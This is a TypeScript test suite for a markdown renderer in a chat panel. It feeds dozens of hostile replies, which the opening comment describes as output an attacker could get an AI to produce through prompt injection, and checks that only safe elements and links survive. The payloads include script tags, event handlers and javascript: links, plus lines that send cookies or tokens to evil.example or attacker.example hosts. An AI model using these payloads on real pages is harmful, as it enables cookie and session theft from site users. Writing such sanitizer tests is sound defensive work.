// Replies an attacker could make the AI produce (prompt injection). Whatever
// the reply, the rendered DOM may hold only the allow-listed elements, links
// only with checked web/mail/phone hrefs, and the attack stays visible as text.
import { h } from 'preact'
import { afterEach, describe, expect, it } from 'vitest'
import { renderMarkdown } from '../../src/panel/render/markdown'
import { cleanupRendered, domViolations, FORBIDDEN_SELECTOR, fill, renderInto, vnodeViolations } from './dom'

afterEach(() => {
  cleanupRendered()
})

interface Hostile {
  name: string
  input: string
  /** Text that must still be visible (shown as text, not dropped). Defaults to the whole input. */
  shown?: string[]
  /** Exact number of links the reply may produce (checked only when given). */
  links?: number
}

const MIXED_LINES =
  '# Title **x**\n- item *a* <img src=x onerror=alert(1)>\n1. one `b`\n\nPara [l](https://x.example) [j](javascript:alert(1)) https://y.example/z.\n```\n<b>code</b>\n```\n![i](https://attacker.example/?q=secret)\n'

const HOSTILE: Hostile[] = [
  // script tags
  { name: 'script tag', input: '<script>alert(1)</script>', links: 0 },
  { name: 'script tag, upper case', input: '<SCRIPT>alert(document.cookie)</SCRIPT>', links: 0 },
  { name: 'script tag, nested to survive stripping', input: '<scr<script>ipt>alert(1)</scr</script>ipt>', links: 0 },
  { name: 'script tag, unclosed', input: '<script>alert(1)', links: 0 },
  { name: 'script tag with src', input: '<script src=https://evil.example/x.js></script>', shown: ['<script src=', '></script>'] },
  { name: 'script tag split over lines', input: '<script\n>alert(1)</script\n>', shown: ['<script', '>alert(1)</script'], links: 0 },
  // event handlers in raw HTML
  { name: 'img onerror', input: '<img src=x onerror=alert(1)>', links: 0 },
  {
    name: 'img onerror with quotes',
    input: '<img src="x" onerror="fetch(\'https://evil.example/?c=\'+document.cookie)">',
    shown: ['<img src="x" onerror="fetch('],
  },
  { name: 'svg onload', input: '<svg onload=alert(1)>', links: 0 },
  { name: 'body onload', input: '<body onload=alert(1)>', links: 0 },
  { name: 'a href=# onclick', input: '<a href=# onclick="alert(1)">click me</a>', links: 0 },
  { name: 'raw a with javascript href', input: '<a href="javascript:alert(1)">x</a>', links: 0 },
  { name: 'details ontoggle', input: '<details open ontoggle=alert(1)>', links: 0 },
  { name: 'raw a with https href and onmouseover', input: '<a href="https://ok.example" onmouseover="alert(1)">hover</a>', links: 1 },
  // javascript: in markdown links, every disguise
  { name: 'md link javascript:', input: '[x](javascript:alert(1))', links: 0 },
  { name: 'md link, space before javascript:', input: '[x]( javascript:alert(1))', links: 0 },
  { name: 'md link, mixed case', input: '[x](JaVaScRiPt:alert(1))', links: 0 },
  { name: 'md link, %0a inside the scheme', input: '[x](java%0ascript:alert(1))', links: 0 },
  { name: 'md link, angle brackets', input: '[x](<javascript:alert(1)>)', links: 0 },
  { name: 'autolink-looking javascript', input: '<javascript:alert(1)>', links: 0 },
  { name: 'md link, parenless payload', input: '[x](javascript:alert%281%29)', links: 0 },
  { name: 'md link, tab before scheme', input: '[x](\tjavascript:alert%281%29)', shown: ['[x](', 'javascript:alert%281%29)'], links: 0 },
  { name: 'md link, tab inside scheme', input: '[x](java\tscript:alert%281%29)', links: 0 },
  { name: 'md link, entity colon', input: '[x](javascript&#58;alert%281%29)', links: 0 },
  { name: 'md link, named entity colon', input: '[x](javascript&colon;alert%281%29)', links: 0 },
  { name: 'md link, fullwidth colon', input: '[x](javascript\uff1aalert%281%29)', links: 0 },
  { name: 'md link, NUL before scheme', input: '[x](\u0000javascript:alert%281%29)', shown: ['javascript:alert%281%29)'], links: 0 },
  { name: 'md link, vbscript', input: '[x](vbscript:msgbox%281%29)', links: 0 },
  { name: 'md link, title trying to add onclick', input: '[x](https://ok.example "t" onclick="alert(1)")', shown: ['[x](', 'onclick="alert(1)")'] },
  { name: 'md link, quotes to break out of href', input: '[x](https://ok.example/"onclick="alert`1`)', links: 1, shown: ['x'] },
  // data: and other schemes in links and images
  { name: 'md link, data text/html', input: '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', links: 0 },
  { name: 'md image, data svg', input: '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)', links: 0 },
  { name: 'md image, data svg unencoded', input: '![x](data:image/svg+xml,<svg/onload=alert(1)>)', links: 0 },
  { name: 'md link, file', input: '[x](file:///etc/passwd)', links: 0 },
  { name: 'md link, protocol-relative', input: '[x](//evil.example)', links: 0 },
  { name: 'md link, relative path into the host site', input: '[log out](/account/logout)', links: 0 },
  // images to attacker URLs (must never be fetched)
  { name: 'md image with a secret in the query', input: '![](https://attacker.example/?q=secret)', links: 1, shown: ['https://attacker.example/?q=secret'] },
  { name: 'md image, tracking pixel with alt', input: '![loading](https://attacker.example/p.gif?c=SESSION_TOKEN)', links: 1, shown: ['loading'] },
  { name: 'md image, reference-looking', input: '![a][1]\n\n[1]: https://attacker.example/?q=secret', shown: ['![a][1]', '[1]: '] },
  // SVG / MathML and mutation-XSS shapes
  { name: 'svg with script', input: '<svg><script>alert(1)</script></svg>', links: 0 },
  { name: 'MathML mglyph style img', input: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', links: 0 },
  { name: 'noscript attribute mXSS', input: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', links: 0 },
  { name: 'template with script', input: '<template><script>alert(1)</script></template>', links: 0 },
  { name: 'comment and CDATA', input: '<!-- x --><![CDATA[<img src=x onerror=alert(1)>]]>', links: 0 },
  // embedding and resource elements
  { name: 'iframe', input: '<iframe src="https://evil.example"></iframe>' },
  { name: 'iframe srcdoc', input: '<iframe srcdoc="<script>alert(1)</script>"></iframe>', links: 0 },
  { name: 'object', input: '<object data="javascript:alert(1)"></object>', links: 0 },
  { name: 'embed', input: '<embed src="data:text/html,<script>alert(1)</script>">', links: 0 },
  { name: 'link stylesheet', input: '<link rel=stylesheet href=https://evil.example/x.css>' },
  { name: 'style @import', input: '<style>@import url(https://evil.example/x.css);</style>' },
  { name: 'meta refresh', input: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', links: 0 },
  { name: 'base href', input: '<base href="https://evil.example/">' },
  { name: 'form action', input: '<form action="https://evil.example"><input name=p type=password></form>' },
  { name: 'video', input: '<video src=x onerror=alert(1)></video>', links: 0 },
  { name: 'audio', input: '<audio src=x onerror=alert(1)></audio>', links: 0 },
  { name: 'source in video', input: '<video><source onerror="alert(1)"></video>', links: 0 },
  { name: 'img srcset', input: '<img srcset="https://evil.example/a.png 1x, https://evil.example/b.png 2x" src=x>' },
  { name: 'CSS expression', input: '<div style="width:expression(alert(1));background:url(javascript:alert(1))">x</div>', links: 0 },
  { name: 'CSS in a span', input: '<span style="position:fixed;inset:0;background:red">click anywhere</span>', links: 0 },
  // nested markdown tricks
  { name: 'bold in link text, javascript url', input: '[**x**](javascript:alert(1))', links: 0, shown: ['x', '(javascript:alert(1))'] },
  { name: 'good link followed by javascript parens', input: '[x](https://ok.example)(javascript:alert(1))', links: 1, shown: ['(javascript:alert(1))'] },
  { name: 'link in bold, javascript url', input: '**[x](javascript:)**', links: 0, shown: ['[x](javascript:)'] },
  {
    name: 'link inside link text',
    input: '[a [b](javascript:alert%281%29) c](https://ok.example)',
    shown: ['javascript:alert%281%29', 'c](https://ok.example)'],
  },
  { name: 'link as link text', input: '[[x](https://ok.example)](javascript:alert%281%29)', links: 1, shown: ['](javascript:alert%281%29)'] },
  { name: 'image inside link', input: '[![a](https://attacker.example/i.png)](javascript:alert%281%29)', shown: ['(javascript:alert%281%29)'] },
  {
    name: 'code span hiding a link',
    input: '`[x](javascript:alert(1))` [y](javascript:alert%281%29)',
    links: 0,
    shown: ['[x](javascript:alert(1))', '[y](javascript:alert%281%29)'],
  },
  {
    name: 'fenced HTML',
    input: '```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```',
    links: 0,
    shown: ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>'],
  },
  { name: 'heading with HTML', input: '# <img src=x onerror=alert(1)>', links: 0, shown: ['<img src=x onerror=alert(1)>'] },
  {
    name: 'list item with HTML',
    input: '- <script>alert(1)</script>\n1. <iframe src=//evil.example>',
    links: 0,
    shown: ['<script>alert(1)</script>', '<iframe src=//evil.example>'],
  },
  // entities that decode to markup
  { name: 'entity-encoded script', input: '&lt;script&gt;alert(1)&lt;/script&gt;', links: 0 },
  { name: 'numeric entities for img', input: '&#60;img src=x onerror=alert(1)&#62;', links: 0 },
  { name: 'hex entities for a javascript href', input: '<a href="&#x6A;avascript:alert(1)">x</a>', links: 0 },
  // control and bidi characters
  { name: 'null bytes around script', input: '\u0000<script>alert(1)</script>\u0000', links: 0 },
  { name: 'null bytes inside a tag name', input: '<scr\u0000ipt>alert(1)</scr\u0000ipt>', links: 0 },
  { name: 'RTL override', input: '\u202E<script>alert(1)</script>\u202C [safe.txt](https://evil.example/\u202Eexe.txt)', shown: ['<script>alert(1)</script>'] },
  { name: 'control character inside a link url', input: '[x](https://ok.example/\u0001x)', links: 0 },
  // Trailing controls are trimmed (as a browser does), leaving a plain web link.
  { name: 'control character at the end of a link url', input: '[x](https://ok.example/\u0001)', links: 1, shown: ['x'] },
  // size and nesting
  {
    name: '300 KB of mixed markdown (many lines)',
    input: fill(MIXED_LINES, 300_000),
    shown: ['<img src=x onerror=alert(1)>', '<b>code</b>', '[j](javascript:alert(1))'],
  },
  { name: '10,000 levels of *', input: `${'*'.repeat(10_000)}a${'*'.repeat(10_000)}`, shown: ['a'] },
  { name: '10,000 levels of _', input: `${'_'.repeat(10_000)}a${'_'.repeat(10_000)}`, shown: ['a'] },
  {
    name: '10,000 levels of [',
    input: `${'['.repeat(10_000)}x${'](javascript:alert%281%29)'.repeat(10_000)}`,
    links: 0,
    shown: ['x](javascript:alert%281%29)'],
  },
  { name: '10,000 levels of mixed * _ [', input: `${'*_['.repeat(10_000)}x${'](https://ok.example)_*'.repeat(10_000)}`, shown: ['x'] },
  { name: '10,000 levels of bold', input: `${'**'.repeat(10_000)}a${'**'.repeat(10_000)}`, shown: ['a'] },
  { name: '100,000 unmatched **', input: '**'.repeat(100_000), shown: ['**'] },
  { name: '100,000 unmatched [', input: '['.repeat(100_000), links: 0 },
  // (At the start of a line 100,000 backticks open a code fence; after text they are inline.)
  { name: '100,000 unmatched `', input: `x${'`'.repeat(100_000)}`, links: 0 },
  { name: '25,000 x "**[`" on one line', input: '**[`'.repeat(25_000), links: 0, shown: ['[`'] },
  {
    name: 'very long single line ending in script',
    input: `${'word '.repeat(60_000)}<script>alert(1)</script>`,
    links: 0,
    shown: ['<script>alert(1)</script>'],
  },
]

/** Whitespace and line structure are rendered as elements, not text: compare without them. */
function flat(text: string): string {
  return text.replace(/\s+/g, '')
}

describe('hostile replies', () => {
  it('has at least 40 distinct cases', () => {
    expect(HOSTILE.length).toBeGreaterThanOrEqual(40)
    expect(new Set(HOSTILE.map((c) => c.name)).size).toBe(HOSTILE.length)
    expect(new Set(HOSTILE.map((c) => c.input)).size).toBe(HOSTILE.length)
  })

  it.each(HOSTILE)(
    '$name',
    ({ input, shown, links }) => {
      const vnodes = renderMarkdown(input)
      expect(vnodeViolations(vnodes)).toEqual([])

      const container = renderInto(input)
      expect(domViolations(container)).toEqual([])

      // The explicit checks the contract names, stated on their own as well
      // (getElementsByTagName: happy-dom's querySelectorAll stops at 65,538 matches).
      const all = Array.from(container.getElementsByTagName('*'))
      const allowed = new Set(['DIV', 'P', 'BR', 'STRONG', 'EM', 'CODE', 'PRE', 'UL', 'OL', 'LI', 'A'])
      expect([...new Set(all.map((el) => el.tagName))].filter((tag) => !allowed.has(tag))).toEqual([])
      expect(all.flatMap((el) => el.getAttributeNames().filter((name) => /^on/i.test(name)))).toEqual([])
      expect(container.getElementsByTagName('div')).toHaveLength(1)
      for (const tag of FORBIDDEN_SELECTOR.split(',')) expect(container.getElementsByTagName(tag)).toHaveLength(0)
      const anchors = Array.from(container.getElementsByTagName('a'))
      expect(
        anchors.filter(
          (link) =>
            link.getAttribute('target') !== '_blank' ||
            link.getAttribute('rel') !== 'noopener noreferrer nofollow ugc' ||
            !/^(?:https?|mailto|tel):/i.test(link.getAttribute('href') ?? ''),
        ),
      ).toEqual([])
      if (links !== undefined) expect(anchors).toHaveLength(links)

      const text = flat(container.textContent ?? '')
      for (const fragment of shown ?? [input]) expect(text).toContain(flat(fragment))
    },
    60_000,
  )

  // More than about 120,000 inline pieces on one line overflow the call stack
  // (withBreaks spreads them into push). Rendering that many elements into
  // happy-dom would take minutes, so these check the VNodes only.
  it.each([
    { name: '300 KB of *a on one line', input: fill('*a', 300_000), tag: 'em', count: 75_000 },
    { name: '300 KB of `a` inline code on one line', input: fill('`a` ', 300_000), tag: 'code', count: 75_000 },
    { name: '300 KB of **a** on one line', input: fill('**a**', 300_000), tag: 'strong', count: 60_000 },
  ])(
    '$name: renders without throwing, every piece safe',
    ({ input, tag, count }) => {
      let vnodes: ReturnType<typeof renderMarkdown> = []
      expect(() => {
        vnodes = renderMarkdown(input)
      }).not.toThrow()
      expect(vnodeViolations(vnodes)).toEqual([])
      expect(vnodes).toHaveLength(1)
      const children = (vnodes[0] as { props: { children: Array<string | { type: string }> } }).props.children
      expect(children.filter((child) => typeof child !== 'string' && child.type === tag)).toHaveLength(count)
    },
    60_000,
  )

  it('the checks used above do catch unsafe markup', () => {
    // Guard against a vacuous suite: the same checks must flag a DOM that is unsafe.
    const container = document.createElement('div')
    const wrapper = document.createElement('div')
    wrapper.innerHTML =
      '<p onclick="x">a</p><img src=x><a href="javascript:alert(1)" target="_blank" rel="noopener noreferrer nofollow ugc">j</a><a href="https://ok.example">no rel</a><ol start="3" type="a"></ol><a href="https://a.example" target="_blank" rel="noopener noreferrer nofollow ugc"><a href="https://b.example" target="_blank" rel="noopener noreferrer nofollow ugc">b</a></a>'
    container.appendChild(wrapper)
    const found = domViolations(container).join('\n')
    expect(found).toContain('event handler attribute onclick')
    expect(found).toContain('element <img> is not allowed')
    expect(found).toContain('refused scheme')
    expect(found).toContain('link rel is null')
    expect(found).toContain('<ol> has attribute type="a"')
    expect(found).toContain('forbidden elements present: IMG')
    expect(vnodeViolations([h('img', { src: 'x' }), h('a', { href: 'https://x', onClick: () => undefined }, 'x')])).toEqual([
      'vnode type img is not allowed',
      '<a> vnode has prop onClick',
    ])
  })
})
